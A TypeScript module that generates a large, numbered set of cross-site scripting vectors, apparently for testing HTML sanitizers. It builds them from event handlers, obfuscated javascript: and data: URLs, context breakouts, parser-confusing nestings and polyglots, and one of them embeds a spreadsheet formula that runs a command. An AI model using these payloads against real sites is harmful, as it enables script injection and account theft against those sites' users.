/**
 * Texts that would run a script if a page took them for HTML, generated from the building blocks of HTML:
 * elements, events, addresses, ways to write them, and contexts to break out of. Each calls `xss` with its
 * own number, so that the call identifies it.
 */

const ELEMENTS =
  "a abbr address article aside audio b base bdi blockquote body br button canvas caption center cite code col " +
  "data details dialog div dl embed fieldset figure font footer form frame frameset h1 head header hr html i " +
  "iframe img input ins isindex keygen label li link map mark marquee math menu meta meter nav noscript object " +
  "ol optgroup option output p param picture pre progress q rp ruby s script section select slot small source " +
  "span strike style sub summary svg table tbody td template textarea tfoot time title tr track tt u ul var " +
  "video wbr xmp x-own";

const EVENTS =
  "onload onerror onfocus onblur onclick ondblclick onmouseover onmouseenter onmousemove onpointerover " +
  "onpointerrawupdate onwheel onscroll onscrollend onkeydown oninput onbeforeinput onchange onselect oncopy onpaste " +
  "oncut ondrag ondrop oncontextmenu onanimationstart onanimationend ontransitionend ontoggle onbeforetoggle " +
  "onpageshow onhashchange onmessage onpopstate onresize onplay oncanplay onloadstart onloadedmetadata oncuechange " +
  "onbegin onend onrepeat onfinish onstart onbounce onsubmit onreset onformdata oninvalid onslotchange " +
  "onsecuritypolicyviolation oncontentvisibilityautostatechange onunhandledrejection onwebkitanimationstart";

/** Elements that load, draw or run by themselves, with what triggers them. */
const EAGER = [
  '<img src="x" @>',
  "<img src=x:x @>",
  '<svg @><circle r="9"/></svg>',
  "<svg><image href=x @></image></svg>",
  "<svg><animate attributeName=x dur=1s @></animate></svg>",
  "<svg><set attributeName=x dur=1s @></set></svg>",
  "<video src=x @></video>",
  "<video><source src=x @></video>",
  "<audio src=x autoplay @></audio>",
  "<object data=x @></object>",
  '<iframe src="about:blank" @></iframe>',
  "<body @>",
  "<input autofocus @>",
  "<select autofocus @></select>",
  "<textarea autofocus @></textarea>",
  "<details open @><summary>s</summary></details>",
  '<div style="animation: x 1s" tabindex=1 autofocus @>d</div>',
  "<link rel=stylesheet href=x @>",
  "<script src=x @></script>",
  "<marquee @>m</marquee>",
  "<button popovertarget=p autofocus @>b</button>",
  "<p contenteditable autofocus @>p</p>",
] as const;

/** Attributes that hold an address, with an element for each. */
const ADDRESSES = [
  '<a href="@">a</a>',
  "<a href='@'>a</a>",
  "<a href=@>a</a>",
  '<a target=_blank href="@">a</a>',
  '<area href="@">',
  '<map name=m><area shape=default href="@"></map><img usemap="#m" src=x>',
  '<form action="@"><button>b</button></form>',
  '<form><button formaction="@">b</button></form>',
  '<form><input type=submit formaction="@"></form>',
  '<iframe src="@"></iframe>',
  '<embed src="@">',
  '<object data="@"></object>',
  '<object><param name=movie value="@"></object>',
  '<img src="@">',
  '<img srcset="@ 1x">',
  '<picture><source srcset="@"><img></picture>',
  '<video src="@"></video>',
  '<video poster="@"></video>',
  '<audio src="@"></audio>',
  '<link rel=import href="@">',
  '<link rel=stylesheet href="@">',
  '<script src="@"></script>',
  '<base href="@">',
  '<meta http-equiv=refresh content="0;url=@">',
  '<svg><a href="@"><text y=20>a</text></a></svg>',
  '<svg><a xlink:href="@"><text y=20>a</text></a></svg>',
  '<svg><use href="@"/></svg>',
  '<svg><script href="@"></script></svg>',
  '<svg><a><animate attributeName=href values="@"/><text y=20>a</text></a></svg>',
  '<svg><a><set attributeName=href to="@"/><text y=20>a</text></a></svg>',
  '<math><mtext href="@">m</mtext></math>',
  '<math xlink:href="@">m</math>',
  '<blockquote cite="@">q</blockquote>',
  '<body background="@">',
  '<table background="@"><tr><td>t</td></tr></table>',
  '<div style="background: url(@)">d</div>',
  "[a](@)",
  "![a](@)",
] as const;

/** Spellings of an address that runs a script; `@` is the call. */
const SCHEMES = [
  "javascript:@",
  "JaVaScRiPt:@",
  " javascript:@",
  "\tjavascript:@",
  "\u0001javascript:@",
  "java\tscript:@",
  "java\nscript:@",
  "java\r\nscript:@",
  "java&#09;script:@",
  "java&Tab;script:@",
  "java&NewLine;script:@",
  "javascript&colon;@",
  "javascript&#58;@",
  "javascript&#x3a;@",
  "&#106;avascript:@",
  "&#0000106avascript:@",
  "&#x6A&#x61vascript:@",
  "java&#115;cript:@",
  "javascript://%0a@",
  "javascript://example.org/%0d%0a@",
  "javascript:/*x*/@",
  "javascript:void(@)",
  "javascript:%78ss(1)&&@",
  "javascript:'<script>@</script>'",
  "feed:javascript:@",
  "view-source:javascript:@",
  "vbscript:@",
  "livescript:@",
  "data:text/html,<script>parent.@</script>",
  "data:text/html;charset=utf-8,<script>parent.@</script>",
  "data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzKDEpPC9zY3JpcHQ+",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.@'/>",
  "data:text/javascript,@",
  "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>parent.@</script>",
  "blob:javascript:@",
  "//javascript:@",
  "\\\\javascript:@",
  "https:javascript:@",
  "\u202ejavascript:@",
  "\ufeffjavascript:@",
] as const;

/** Spellings of an event attribute. */
const ATTRIBUTES = [
  "onerror=@",
  'onerror="@"',
  "onerror='@'",
  "onerror=`@`",
  "OnErRoR=@",
  "onerror =@",
  "onerror\n=\n@",
  "onerror\f=@",
  "/onerror=@",
  "\u000bonerror=@",
  "x=1/onerror=@",
  "x='>'onerror=@",
  "alt='`<>'onerror=@",
  "onerror=&#120;ss(1),@",
  "onerror=\\u0078ss(1),@",
  "onerror=eval('x'+'ss(1)'),@",
  "onerror=window['xss'](1),@",
  "onerror=self?.xss?.(1),@",
  "onerror=top.@",
  "onerror=Function('xss(1)')(),@",
  "onerror=setTimeout('xss(1)'),@",
  "onerror=import('data:text/javascript,xss(1)'),@",
  "onerror=throw[onerror]=[xss],@",
  "onerror\u0085=@",
  "\u00a0onerror=@",
  "on\u00aderror=@",
  "onerror=@ onerror=y",
  "onerror=y onerror=@",
] as const;

/** Contexts that a text may be in, each closed before the script. */
const BREAKS = [
  "",
  '">',
  "'>",
  "`>",
  "-->",
  "--!>",
  "]]>",
  "?>",
  "</title>",
  "</textarea>",
  "</style>",
  "</script>",
  "</noscript>",
  "</template>",
  "</iframe>",
  "</xmp>",
  "</select>",
  "</svg>",
  "</math>",
  "</p></div></section></main>",
  "*/",
  "});",
  "${",
  "{{",
  "\\u0022>",
  "%22%3E",
  "&quot;>",
] as const;

const CALLS = [
  "<script>@</script>",
  "<SCRIPT>@</SCRIPT>",
  "<script/x>@</script/x>",
  "<script\n>@</script\n>",
  "<script>@",
  "<scr<script>ipt>@</scr</script>ipt>",
  "<<script>@//<</script>",
  "<script type=module>@</script>",
  "<script>/*</script><script>*/@</script>",
  "<img src=x onerror=@>",
  "<img src=x onerror=@//",
  "<svg/onload=@>",
  "<svg><script>@</script></svg>",
  "<svg><script>&#120;ss(1)</script></svg>",
  "<math><mi><script>@</script></mi></math>",
  "<iframe srcdoc='<script>parent.@</script>'></iframe>",
  "<iframe srcdoc='&lt;img src=x onerror=parent.@&gt;'></iframe>",
  "%3Cscript%3E@%3C/script%3E",
  "&lt;script&gt;@&lt;/script&gt;",
  "\\x3cscript\\x3e@\\x3c/script\\x3e",
  "\\u003cscript\\u003e@\\u003c/script\\u003e",
  "+ADw-script+AD4-@+ADw-/script+AD4-",
  "\uff1cscript\uff1e@\uff1c/script\uff1e",
  "\u00bcscript\u00be@\u00bc/script\u00be",
] as const;

/** Nestings that parsers disagree about: text to one parser is an element to another. */
const OUTER = [
  "<math><mtext>@</mtext></math>",
  "<math><mtext><table><mglyph><style>@</style></mglyph></table></mtext></math>",
  "<math><annotation-xml encoding='text/html'>@</annotation-xml></math>",
  "<svg><foreignObject>@</foreignObject></svg>",
  "<svg><title>@</title></svg>",
  "<svg><desc>@</desc></svg>",
  "<svg></p><style><!--</style>@--></style></svg>",
  "<svg><style><img title='</style>@'></style></svg>",
  "<noscript><p title='</noscript>@'></noscript>",
  "<noembed><p title='</noembed>@'></noembed>",
  "<noframes><p title='</noframes>@'></noframes>",
  "<textarea><p title='</textarea>@'></textarea>",
  "<title><p title='</title>@'></title>",
  "<xmp><p title='</xmp>@'></xmp>",
  "<plaintext>@",
  "<style><p title='</style>@'></style>",
  "<template>@</template>",
  "<select><option>@</option></select>",
  "<select><template>@</template></select>",
  "<table>@</table>",
  "<table><caption><svg>@</svg></caption></table>",
  "<form><form>@</form></form>",
  "<a><svg><a>@</a></svg></a>",
  "<p><math><p>@</p></math></p>",
  "<!--><p>--!>@",
  "<!--<p -->@",
  "<!DOCTYPE html [<!ENTITY x '@'>]>&x;",
  "<![CDATA[><p ]]>@",
  "<?xml version='1.0'?><p>@</p>",
  "<?x ?>@",
  "<details><summary>@</summary></details>",
  "<ul><li><ol><li>@</li></ol></li></ul>",
] as const;

/** Written for many contexts at once. */
const POLYGLOTS = [
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=@ )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=@//>\\x3e",
  "'\"--></title></style></textarea></script><svg/onload=@>",
  "\" onfocus=@ autofocus x=\"' onfocus=@ autofocus x='><img src=x onerror=@>",
  "'-@-'\"-@-\"`-${@}-`",
  "\\';@;//\\\";@;//",
  "{{constructor.constructor('xss(1)')()}}${@}#{@}<%= @ %>",
  "</script><script>@</script><!--",
  "]]><script>@</script><![CDATA[",
  "javascript:@//http://example.org/?<img src=x onerror=@>",
  "<img src='x' alt='`' onerror='@'`>",
  '<a href="https://example.org" onclick="@" title=\'"><img src=x onerror=@>\'>a</a>',
  "=cmd|' /C calc'!A0<script>@</script>",
  "<x contenteditable onblur=@>x</x><svg/onload=@ ",
  "<style>@import 'data:text/css,*{background:url(javascript:@)}';</style><svg/onload=@>",
] as const;

function fill(pattern: string, inner: string): string {
  return pattern.replaceAll("@", () => inner);
}

/** All of them, each calling `xss` with its number, from 1. */
export function makeScriptVectors(): string[] {
  const elements = ELEMENTS.split(" ");
  const events = EVENTS.split(" ");
  const handlers = elements.flatMap((element, row) =>
    // Every element with a third of all events, each event with a third of all elements.
    events
      .filter((_, column) => (row + column) % 3 === 0)
      .map((event) => `<${element} ${event}=@ tabindex=1>t</${element}>`),
  );
  const patterns = [
    ...handlers,
    ...EAGER.flatMap((element) => events.slice(0, 8).map((event) => fill(element, `${event}=@`))),
    ...ADDRESSES.flatMap((address) => SCHEMES.map((scheme) => fill(address, scheme))),
    ...ATTRIBUTES.flatMap((attribute) => [`<img src=x ${attribute}>`, `<svg ${attribute}>`]),
    ...BREAKS.flatMap((leave) => CALLS.map((call) => leave + call)),
    ...OUTER.flatMap((outer) => CALLS.slice(0, 16).map((call) => fill(outer, call))),
    ...POLYGLOTS,
  ];
  return [...new Set(patterns)].map((pattern, index) => fill(pattern, `xss(${index + 1})`));
}
